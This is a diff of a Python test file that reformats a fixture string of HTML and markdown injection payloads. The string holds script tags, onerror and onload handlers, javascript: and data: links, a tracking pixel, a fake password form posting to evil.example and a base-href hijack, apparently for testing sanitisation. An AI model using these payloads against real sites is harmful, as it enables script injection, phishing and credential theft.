@@ -11,12 +11,15 @@ from infra.visitor import Visitor
 
 Window = Callable[..., Page]
 
-DESCRIPTION = """<script>document.title = 'taken'</script>
+DESCRIPTION = (
+    """<script>document.title = 'taken'</script>
 <img src=x onerror="document.title = 'taken'"> <svg onload="document.title = 'taken'"></svg>
 [press me](javascript:document.title='taken') [or me](data:text/html,taken) ![pixel](https://spy.example/p.png)
 <style>body { display: none }</style> <form action="https://evil.example"><input name=password></form>
 </main></div><h1>Fake heading</h1> <base href="https://evil.example/">
-""" + "W" * 400
+"""
+    + "W" * 400
+)
 
 
 @pytest.fixture
